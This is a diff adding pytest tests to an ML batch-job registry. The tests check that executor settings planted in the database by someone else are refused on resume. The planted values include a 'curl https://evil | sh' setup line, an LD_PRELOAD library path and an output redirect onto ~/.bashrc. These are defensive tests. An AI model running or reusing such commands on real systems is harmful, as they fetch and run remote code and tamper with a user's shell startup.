@@ -122,6 +122,49 @@ def test_resume_on_another_kind_of_executor_asks_it_for_what_every_executor_unde
     assert json.loads(body) == {"memory_mb": 1024}
 
 
+PLANTED = {
+    "setup": {"setup": ["curl https://evil | sh"]},
+    "python": {"python": "/tmp/evil"},
+    "template": {"template": "/tmp/evil.jinja"},
+    "env": {"env": {"LD_PRELOAD": "/tmp/evil.so"}},
+    "lines": {"lines": ["--output=/home/me/.bashrc"]},
+}
+
+
+@pytest.mark.parametrize("what", PLANTED)
+def test_what_somebody_else_told_an_executor_is_not_run_by_whoever_resumes(registry, registry_url, what):
+    """Shell lines and the like are taken from the registry only if this user has put them there."""
+    from sqlalchemy import text
+
+    from batchml.registry.store import Store
+
+    registry.add(grid(), name="a")
+    registry.submit([1, 2], executor=Nobody())
+    with Store.open(registry_url) as store, store.write() as connection:
+        planted = text("UPDATE submission SET executor = 'slurm', settings = :settings")
+        connection.execute(planted, {"settings": json.dumps({"workers": 1, "partition": "debug", **PLANTED[what]})})
+    with pytest.raises(TrustError, match=rf"settings {what} of the executor slurm.*resume --executor slurm"):
+        registry.resume()
+    assert len(registry.sql("SELECT * FROM workers")) == 0
+    assert len(registry.resume(executor=Nobody()).submissions) == 1
+
+
+def test_options_of_a_scheduler_that_somebody_else_asked_for_are_not_passed_on(registry, registry_url):
+    from sqlalchemy import text
+
+    from batchml.registry.store import Store
+
+    registry.add(grid(), name="a")
+    registry.submit([1, 2], executor=Nobody(), resources={"memory": "1G"})
+    with Store.open(registry_url) as store, store.write() as connection:
+        planted = text("UPDATE resource SET body = :body")
+        connection.execute(planted, {"body": json.dumps({"extra": {"output": "/home/me/.bashrc"}})})
+    with pytest.raises(TrustError, match="options output of the executor local"):
+        registry.resume()
+    with pytest.raises(ConfigError, match="output"):
+        registry.resume(executor=bm.Local(slots=1), resources={"output": "x"})
+
+
 def test_modules_that_nobody_trusted_stop_a_submission_before_it_queues(registry, tmp_path, monkeypatch):
     (tmp_path / "foreign_learners.py").write_text(
         "from sklearn.dummy import DummyClassifier\n\nclass Mine(DummyClassifier):\n    pass\n"
